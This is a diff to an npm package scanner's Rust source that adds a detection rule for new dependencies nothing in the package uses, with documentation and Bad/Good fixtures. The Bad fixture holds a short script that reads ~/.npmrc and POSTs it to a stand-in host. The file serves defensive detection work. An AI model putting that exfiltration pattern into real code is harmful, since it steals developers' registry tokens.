@@ -57,6 +57,7 @@ pub mod disguise {
     pub mod look_alike_name;
     pub mod manifest_keys_twice;
     pub mod manifest_name_differs;
+    pub mod new_dependency_nothing_uses;
     pub mod npmrc_names_program;
     pub mod package_brings_manager_settings;
     pub mod popular_name_with_word;
@@ -299,6 +300,7 @@ pub static RULES: &[&dyn Rule] = &[
     &disguise::look_alike_name::LookAlikeName,
     &disguise::manifest_keys_twice::ManifestKeysTwice,
     &disguise::manifest_name_differs::ManifestNameDiffers,
+    &disguise::new_dependency_nothing_uses::NewDependencyNothingUses,
     &disguise::npmrc_names_program::NpmrcNamesProgram,
     &disguise::package_brings_manager_settings::PackageBringsManagerSettings,
     &disguise::popular_name_with_word::PopularNameWithWord,
@@ -2855,6 +2857,72 @@ module.exports = (text, length) => text.padStart(length);
 ## References
 
 - Clarke: The massive bug at the heart of the npm ecosystem (June 2023)
+"#,
+    ),
+    (
+        "new-dependency-nothing-uses",
+        r#"# A dependency is new and no file of the package names it
+
+The release declares a dependency that the release before did not have, and whose name stands in no script, no other
+file and nowhere else in the manifest.
+
+## Why it matters
+
+The poisoned releases of Axios and Mastra differed from honest ones by such a line alone: the dependency is there for its
+install hook.
+
+## Known benign uses
+
+A dependency that only a bundle uses, or whose use is not written yet. It never decides alone.
+
+## Bad
+
+```package with packument
+== package.json //~ 1
+{"name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"plain-rows-lite": "^4.2.1"}}
+== index.js
+const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
+const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
+const request = https.request({ hostname: "collector.invalid", method: "POST" });
+request.write(text);
+request.end();
+== packument.json
+{"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
+  "versions": {"1.0.0": {}, "1.1.0": {}, "1.2.0": {},
+  "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"plain-rows-lite": "^4.2.1"},
+    "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## Good
+
+```package with packument
+== package.json
+{"name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"text-table": "^1.0.0"}}
+== index.js
+exports.rows = (text) => require("text-table")(text.split("\n"));
+== packument.json
+{"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
+  "versions": {"1.0.0": {}, "1.1.0": {}, "1.2.0": {},
+  "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"text-table": "^1.0.0"},
+    "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+```package with packument
+== package.json
+{"name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"left-over": "^1.0.0"}}
+== index.js
+exports.rows = (text) => text.split("\n");
+== packument.json
+{"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
+  "versions": {"1.0.0": {"dependencies": {"left-over": "^1.0.0"}}, "1.1.0": {"dependencies": {"left-over": "^1.0.0"}}, "1.2.0": {"dependencies": {"left-over": "^1.0.0"}},
+  "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"left-over": "^1.0.0"},
+    "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## References
+
+- Elastic: Axios and plain-crypto-js (March 2026)
+- Mastra (June 2026)
 "#,
     ),
     (
